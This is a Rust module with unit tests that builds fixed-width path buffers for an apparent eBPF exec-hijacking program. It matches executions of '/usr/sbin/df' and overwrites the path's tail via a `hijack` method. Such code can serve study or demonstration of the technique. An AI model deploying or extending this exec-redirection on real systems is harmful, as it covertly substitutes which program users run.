//! Fixed-width program path buffers.
//!
//! Every loop here is bounded by [`TASK_COMM_LEN`] so the code stays
//! acceptable to the verifier when inlined into the eBPF program.

use crate::TASK_COMM_LEN;

/// Path whose exec is rewritten.
pub const TARGET: ProgramName = ProgramName::from_path(b"/usr/sbin/df");

/// Written over the two bytes at `TASK_COMM_LEN - 4` and `TASK_COMM_LEN - 3`.
pub const REPLACEMENT_SUFFIX: [u8; 2] = *b"ls";

const SUFFIX_START: usize = TASK_COMM_LEN - 4;
const CLEAR_START: usize = TASK_COMM_LEN - 2;

/// A `TASK_COMM_LEN` byte path buffer living on the handler's stack.
#[repr(transparent)]
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ProgramName([u8; TASK_COMM_LEN]);

impl ProgramName {
    pub const fn empty() -> Self {
        Self([0u8; TASK_COMM_LEN])
    }

    /// Builds a zero-padded name, truncating `path` to `TASK_COMM_LEN - 1`
    /// bytes so the result is always terminated.
    pub const fn from_path(path: &[u8]) -> Self {
        let mut buf = [0u8; TASK_COMM_LEN];
        let mut i = 0;
        while i < path.len() && i < TASK_COMM_LEN - 1 {
            buf[i] = path[i];
            i += 1;
        }
        Self(buf)
    }

    pub const fn from_bytes(bytes: [u8; TASK_COMM_LEN]) -> Self {
        Self(bytes)
    }

    pub const fn as_bytes(&self) -> &[u8; TASK_COMM_LEN] {
        &self.0
    }

    pub fn as_mut_bytes(&mut self) -> &mut [u8; TASK_COMM_LEN] {
        &mut self.0
    }

    /// Forces the last byte to NUL.
    pub fn terminate(&mut self) {
        self.0[TASK_COMM_LEN - 1] = 0;
    }

    /// True when the name holds at most one visible byte.
    pub fn is_degenerate(&self) -> bool {
        self.0[1] == 0
    }

    /// Byte equality over the first `TASK_COMM_LEN - 1` bytes.
    ///
    /// Not a C string compare: bytes after a terminator still count, so both
    /// names must agree in length within the window.
    pub fn matches(&self, target: &ProgramName) -> bool {
        for i in 0..TASK_COMM_LEN - 1 {
            if self.0[i] != target.0[i] {
                return false;
            }
        }
        true
    }

    /// Overwrites the tail of the buffer with [`REPLACEMENT_SUFFIX`] and clears
    /// everything after it.
    pub fn hijack(&mut self) {
        self.0[SUFFIX_START] = REPLACEMENT_SUFFIX[0];
        self.0[SUFFIX_START + 1] = REPLACEMENT_SUFFIX[1];
        for i in CLEAR_START..TASK_COMM_LEN {
            self.0[i] = 0;
        }
    }

    /// Bytes up to the first NUL.
    pub fn trimmed(&self) -> &[u8] {
        let mut len = 0;
        while len < TASK_COMM_LEN && self.0[len] != 0 {
            len += 1;
        }
        &self.0[..len]
    }
}

impl Default for ProgramName {
    fn default() -> Self {
        Self::empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn from_path_truncates_and_terminates() {
        let name = ProgramName::from_path(b"/usr/lib/very/long/path");
        assert_eq!(name.as_bytes()[TASK_COMM_LEN - 1], 0);
        assert_eq!(name.trimmed(), b"/usr/lib/very/l");
    }

    #[test]
    fn degenerate_names() {
        assert!(ProgramName::empty().is_degenerate());
        assert!(ProgramName::from_path(b"/").is_degenerate());
        assert!(!ProgramName::from_path(b"/a").is_degenerate());
    }

    #[test]
    fn target_matches_itself_only() {
        assert!(TARGET.matches(&TARGET));
        assert!(!ProgramName::from_path(b"/usr/sbin/d").matches(&TARGET));
        assert!(!ProgramName::from_path(b"/usr/sbin/dfx").matches(&TARGET));
        assert!(!ProgramName::from_path(b"/bin/ls").matches(&TARGET));
    }

    #[test]
    fn trailing_garbage_inside_window_breaks_match() {
        let mut name = TARGET;
        name.as_mut_bytes()[13] = b'x';
        assert!(!name.matches(&TARGET));
    }

    #[test]
    fn last_byte_is_outside_match_window() {
        let mut name = TARGET;
        name.as_mut_bytes()[TASK_COMM_LEN - 1] = b'x';
        assert!(name.matches(&TARGET));
    }

    #[test]
    fn hijack_writes_suffix_and_clears_tail() {
        let mut name = TARGET;
        name.hijack();
        let bytes = name.as_bytes();
        assert_eq!(&bytes[TASK_COMM_LEN - 4..TASK_COMM_LEN - 2], &REPLACEMENT_SUFFIX);
        assert!(bytes[TASK_COMM_LEN - 2..].iter().all(|&b| b == 0));
        assert_eq!(name.trimmed(), b"/usr/sbin/dfls");
    }

    #[test]
    fn terminate_clears_last_byte() {
        let mut name = ProgramName::empty();
        name.as_mut_bytes().fill(b'a');
        name.terminate();
        assert_eq!(name.trimmed().len(), TASK_COMM_LEN - 1);
    }
}
